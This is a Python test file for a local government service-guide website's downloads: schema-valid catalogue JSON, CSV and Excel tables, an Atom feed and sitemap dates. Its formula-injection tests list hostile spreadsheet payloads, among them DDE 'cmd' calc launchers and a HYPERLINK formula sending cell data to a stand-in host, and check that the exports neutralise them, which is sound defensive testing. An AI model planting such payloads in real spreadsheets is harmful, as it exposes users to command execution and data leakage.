"""The downloads built with the site: catalogue JSON valid against its published schema, CSV and
Excel with one row per service, an Atom feed newest first, sitemap dates from each change."""
import csv
import io
import json
import re
import subprocess
import sys
from xml.etree import ElementTree as ET

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from jsonschema import Draft202012Validator

from conftest import CONTENT, FULL_SERVICE
from generator import exports
from generator.website import urls
from generator.catalogue.load import load_catalogue
from generator.exports.tables import HEADERS
from generator.catalogue.textcheck import bad_character
from sitehelpers import main_html

CATALOGUE = load_catalogue(CONTENT)
SITE = "https://banshi.example.cn/"


def read_json(site, path):
    return json.loads((site / path).read_text("utf-8"))


def test_catalogue_json_is_valid_and_complete(built_site):
    document = read_json(built_site, exports.CATALOGUE_JSON)
    schema = read_json(built_site, exports.CATALOGUE_SCHEMA)
    errors = list(Draft202012Validator(schema).iter_errors(document))
    assert not errors, [e.message for e in errors[:5]]
    assert document["format"] == "service-guide-catalogue" and document["format_version"] == "1.1"
    assert [o["id"] for o in document["offices"]] == list(CATALOGUE.offices)
    assert len(document["services"]) == 48 and len(document["topics"]) == len(CATALOGUE.topics)
    for record, s in zip(document["services"], CATALOGUE.services):
        assert (record["office"], record["id"], record["number"], record["name"]) == (s.office_id, s.id, s.number, s.name)
        assert [e["text"] for e in record["legal_basis"]] == [e.text for e in s.legal_basis]
        assert record["process"].get("steps", []) == list(s.process.steps)
        assert [m["name"] for m in record["materials"].get("items", [])] == [m.name for m in s.materials.items]
        assert record["url"] == SITE + urls.page_url(urls.service(s.office_id, s.id))
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", record["updated"])
        assert "place" not in record and "fees" not in record  # nothing the documents do not say
    cited = {c.doc_number for s in CATALOGUE.services for e in s.legal_basis for c in e.citations if c.doc_number}
    assert cited <= {d.get("doc_number") for d in document["legal_documents"]}


def test_per_office_json(built_site):
    for office_id in CATALOGUE.offices:
        document = read_json(built_site, exports.office_json(office_id))
        assert {s["office"] for s in document["services"]} == {office_id}
        assert len(document["services"]) == len(CATALOGUE.services_of(office_id))
        assert [o["id"] for o in document["offices"]] == [office_id]


def test_full_service_in_json(full_guide_site):
    document = read_json(full_guide_site, exports.CATALOGUE_JSON)
    assert not list(Draft202012Validator(read_json(full_guide_site, exports.CATALOGUE_SCHEMA)).iter_errors(document))
    record = next(s for s in document["services"] if (s["office"], s["id"]) == FULL_SERVICE)
    assert record["time_limit"]["promised"] == {"text": "当场办结（即时制卡）", "kind": "immediate", "iso8601": "P0D"}
    assert record["time_limit"]["legal"]["amount"] == 20 and record["time_limit"]["legal"]["iso8601"] == "P20D"
    assert record["fees"] == {"free": True} and record["visits"] == 1
    assert record["place"]["window"] == "3号社保窗口" and record["place"]["phone"] == "022-66668888"
    assert record["materials"]["items"][3] == {"name": "户口本首页和本人页", "forms": ["原件", "复印件"], "copies": 1,
                                               "note": "未成年人申领时提供"}
    assert len(record["faq"]) == 4


def test_csv_opens_in_excel_and_matches(built_site):
    raw = (built_site / exports.SERVICES_CSV).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == HEADERS and len(rows) == 49
    column = {h: i for i, h in enumerate(HEADERS)}
    for row, s in zip(rows[1:], CATALOGUE.services):
        assert row[column["名称"]] == s.name and row[column["序号"]] == s.number and row[column["网址编号"]] == s.id
        assert row[column["机构"]] == CATALOGUE.offices[s.office_id].name
        for step in s.process.steps:
            assert step in row[column["运行流程"]]
        for item in s.materials.all_items():
            assert item in row[column["运行要件"]]


def test_xlsx_has_a_sheet_per_office(built_site):
    from openpyxl import load_workbook

    book = load_workbook(built_site / exports.SERVICES_XLSX)
    assert book.sheetnames == [o.short_name for o in CATALOGUE.offices.values()]
    rows = list(csv.reader(io.StringIO((built_site / exports.SERVICES_CSV).read_bytes().decode("utf-8-sig"))))
    by_id = {(r[0], r[-1]): r for r in rows[1:]}  # ids are unique within an office
    for office in CATALOGUE.offices.values():
        sheet = book[office.short_name]
        values = [[c if c is not None else "" for c in r] for r in sheet.iter_rows(values_only=True)]
        assert values[0] == HEADERS and len(values) == 1 + len(CATALOGUE.services_of(office.id))
        for row in values[1:]:
            assert row == by_id[row[0], row[-1]]  # the same cells as the CSV


def test_atom_feed_newest_first(built_site):
    root = ET.fromstring((built_site / exports.CHANGES_FEED).read_bytes())
    ns = {"a": "http://www.w3.org/2005/Atom"}
    entries = root.findall("a:entry", ns)
    assert len(entries) == len([s for s in CATALOGUE.services if not s.internal])
    dates = [e.find("a:updated", ns).text for e in entries]
    assert dates == sorted(dates, reverse=True)
    first = entries[0]
    assert re.search(r"（(新村街道|杨家泊镇)）$", first.find("a:title", ns).text)
    assert first.find("a:link", ns).get("href").startswith(SITE + "offices/")
    assert first.find("a:author/a:name", ns).text.endswith("党群服务中心")


def test_sitemap_lastmod_is_each_change(built_site):
    from generator.website.gitdates import last_changed

    dates = last_changed(CONTENT)
    sitemap = (built_site / "sitemap.xml").read_text("utf-8")
    for s in CATALOGUE.services[:10]:
        url = SITE + urls.page_url(urls.service(s.office_id, s.id))
        lastmod = re.search(re.escape(url) + r"</loc>\s*<lastmod>([^<]+)</lastmod>", sitemap).group(1)
        assert lastmod == dates[s.source]


def test_linked_from_the_open_data_page_and_staff_views(built_site):
    """Downloads live on 开放数据 (linked from every page's footer) and the offices' staff views, with
    the formats named in Chinese; residents' pages carry none of them."""
    data = main_html(built_site / "open-data/index.html")
    for path in (exports.SERVICES_XLSX, exports.SERVICES_CSV, exports.CATALOGUE_JSON, exports.CATALOGUE_SCHEMA,
                 exports.CHANGES_FEED):
        assert f'href="../{path}"' in data
    for name in ("Excel 表格", "逗号分隔的表格", "JSON 数据", "Atom 订阅源"):
        assert name in data
    staff = main_html(built_site / "offices/xincun/staff/index.html")
    assert 'href="../../../data/offices/xincun.json"' in staff and 'href="../../../data/services.xlsx"' in staff
    for resident_page in ("index.html", "offices/xincun/index.html", "offices/xincun/chuangye-peixun/index.html"):
        html = (built_site / resident_page).read_text("utf-8")
        assert "data/services.xlsx" not in main_html(built_site / resident_page)
        footer = html.split('class="md-copyright sg-site-footer"')[1]
        assert re.search(r'href="(\.\./)*open-data/">开放数据</a>', footer), resident_page
    head = (built_site / "index.html").read_text("utf-8")
    assert 'rel="alternate feed" type="application/atom+xml"' in head  # feed readers find it ...
    assert 'rel="alternate"' not in head  # ... and Material does not look for data/sitemap.xml


def test_render_writes_the_downloads_too(tmp_path):
    out = tmp_path / "pages"
    run = subprocess.run([sys.executable, "-m", "generator", "render", str(out), "--site-url", SITE],
                         capture_output=True, text=True, cwd=CONTENT.parent)
    assert run.returncode == 0, run.stderr
    for path in (exports.CATALOGUE_JSON, exports.SERVICES_CSV, exports.SERVICES_XLSX, exports.CHANGES_FEED,
                 exports.office_json("yangjiabo")):
        assert (out / path).stat().st_size > 1000


PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+cmd|' /C calc'!A0", "\t=1+1", "  =1+1", "-", "+86 22 2586 9855"]


def hostile_catalogue(text: str):
    """The real catalogue, with `text` in every free-text field of its first service."""
    from dataclasses import replace

    from generator.catalogue.model import Catalogue

    first = replace(CATALOGUE.services[0], name=text, title=text, boundary=text, responsibility=text,
                    implementing_body=text, result=text, more=(("delivery", text),), item_type=text, item_code=text,
                    aliases=(text,), conditions=(text,))
    return Catalogue(CATALOGUE.offices, [first, *CATALOGUE.services[1:]], CATALOGUE.themes, CATALOGUE.topics)


def spreadsheet_cells(catalogue) -> tuple[list[str], list]:
    """Every cell of services.csv as a spreadsheet reads the text, and every cell of services.xlsx."""
    from openpyxl import load_workbook

    from generator.exports.tables import services_csv, services_xlsx

    raw = services_csv(catalogue, SITE, {}).decode("utf-8-sig")
    csv_cells = [cell for row in csv.reader(io.StringIO(raw)) for cell in row]
    book = load_workbook(io.BytesIO(services_xlsx(catalogue, SITE, {})))
    xlsx_cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    return csv_cells, xlsx_cells


def assert_no_formula(csv_cells, xlsx_cells, text):
    from generator.catalogue.textcheck import starts_like_formula

    assert not [c for c in csv_cells if starts_like_formula(c)]  # a spreadsheet computes none of them
    assert "'" + text in csv_cells  # ... and the text is there, behind the quote Excel users know
    assert not [c for c in xlsx_cells if c.data_type == "f"]
    shown = [c for c in xlsx_cells if c.value == text]
    assert shown and all(c.data_type == "s" and c.quotePrefix for c in shown)  # as if typed '=...


@pytest.mark.parametrize("payload", PAYLOADS)
def test_spreadsheet_downloads_never_carry_a_formula(payload):
    assert_no_formula(*spreadsheet_cells(hostile_catalogue(payload)), payload)


def test_plain_cells_stay_as_they_are():
    csv_cells, xlsx_cells = spreadsheet_cells(CATALOGUE)
    assert "3-1" in csv_cells and not [c for c in csv_cells if c.startswith("'")]
    assert not [c for c in xlsx_cells if c.quotePrefix]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=st.one_of(
    st.text(min_size=1, max_size=30),
    st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", " =", "\u3000+"]), st.text(max_size=20)).map("".join),
).filter(lambda t: bad_character(t) is None))
def test_any_text_in_any_field_opens_without_a_formula(text):
    from generator.catalogue.textcheck import starts_like_formula

    csv_cells, xlsx_cells = spreadsheet_cells(hostile_catalogue(text))
    assert not [c for c in csv_cells if starts_like_formula(c)]
    assert not [c for c in xlsx_cells if c.data_type == "f"]
